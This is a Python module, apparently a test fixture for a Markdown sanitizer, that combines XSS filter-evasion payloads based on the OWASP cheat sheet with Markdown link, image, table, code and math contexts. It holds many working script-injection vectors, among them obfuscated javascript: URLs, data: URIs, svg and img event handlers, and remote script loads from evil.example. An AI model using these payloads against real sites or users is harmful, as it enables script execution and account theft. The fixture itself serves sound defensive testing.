"""Texts that want to run in who reads them: the kinds that OWASP's sheet on evading XSS filters names, written anew for Markdown.

Kinds: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html. `RUN` is what each tries; it is never to be heard.
"""

from itertools import product

RUN = "alert(1)"

# Addresses that would run: schemes in every disguise that browsers have ever seen through.
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"java&#x09;script:{RUN}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN}", f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{RUN}",
    f"&#0000106&#0000097&#0000118&#0000097script:{RUN}", f"javascript&colon;{RUN}", f"javascript&#58;{RUN}", f"\x01javascript:{RUN}",
    f"\u2028javascript:{RUN}", f"\ufeffjavascript:{RUN}", f"java\\script:{RUN}", f"javascript://%0a{RUN}", f"javascript:/*--></title>*/{RUN}",
    f"vbscript:{RUN}", f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", "data:,x", "blob:https://example.org/1", "file:///etc/passwd",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", "//evil.example/x.js", "/\\evil.example", "\\\\evil.example", "filesystem:https://x/y",
    f"jav%61script:{RUN}", f"%6aavascript:{RUN}", f"ｊavascript:{RUN}", f"javascript\u003a{RUN}", f"java\u00adscript:{RUN}", f"java\u200bscript:{RUN}",
]  # fmt: skip

# Elements and attributes, closed and not, in every spelling that a parser of tags might let through.
TAGS = [
    f"<script>{RUN}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script/x>{RUN}</script>",
    f"<script\x0d>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"</script><script>{RUN}</script>", f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">', f"<img src=`x` onerror={RUN}>", f"<IMG SRC=javascript:{RUN}>", f"<img/src=x/onerror={RUN}>", f'<img """><script>{RUN}</script>">',
    f"<img src=x onerror\x0b={RUN}>", f"<img src onerror /\" '\"= alt={RUN}//\">", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a>", f"<svg><foreignObject><script>{RUN}</script>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/>", f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>", f'<a href="&#1;javascript:{RUN}">x</a>', f"<form action=javascript:{RUN}><input type=submit>", f"<button formaction=javascript:{RUN}>x",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>",
    f'<div style="background:url(javascript:{RUN})">', f'<div style="width:expression({RUN})">', f"<style>@import 'javascript:{RUN}';</style>", "<style>*{background:url(//evil.example)}</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>", f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">', "<base href=//evil.example/>", f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', f"<textarea autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x",
    f"<!--><script>{RUN}</script-->", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", f"<%<script>{RUN}</script>%>",
    f'"><script>{RUN}</script>', f"' onmouseover={RUN} x='", f"`${{{RUN}}}`", f"{{{{constructor.constructor('{RUN}')()}}}}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\x3cscript\\x3e{RUN}", f"+ADw-script+AD4-{RUN}",
]  # fmt: skip

# Where Markdown takes an address, and where it takes a text.
AROUND_ADDRESSES = [
    "[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x][1]\n\n[1]: {0}", "[x]: {0}\n\n[x]", "![x][1]\n\n[1]: <{0}>", "[![x]({0})]({0})", '[x]({0} "title")', "[`x`]({0})",
    "$\\href{{{0}}}{{x}}$", "$$\\url{{{0}}}$$", "$\\includegraphics{{{0}}}$", "$\\htmlData{{a={0}}}{{x}}$", "| a |\n| - |\n| [x]({0}) |", "- [ ] [x]({0})", "> [x]({0})",
]  # fmt: skip
AROUND_TAGS = [
    "{0}", "a {0} b", "**{0}**", "# {0}", "- {0}", "> {0}", "| a |\n| - |\n| {0} |", "`{0}`", "```html\n{0}\n```", "```{0}\nx\n```", "[{0}](https://example.org)", '[x](https://example.org "{0}")',
    "![{0}](https://example.org/x.png)", "[x](https://example.org/{0})", "~~{0}~~", "${0}$", "$$\n{0}\n$$", "$\\text{{{0}}}$", "$\\htmlClass{{{0}}}{{x}}$", "<div>{0}</div>", "    {0}", "x[^1]\n\n[^1]: {0}",
]  # fmt: skip


def all_texts() -> list[str]:
    """Return each attack in each place that Markdown has for it."""
    return [
        around.replace("{0}", each).replace("{{", "{").replace("}}", "}")
        for around, each in [*product(AROUND_ADDRESSES, ADDRESSES), *product(AROUND_TAGS, TAGS)]
    ]
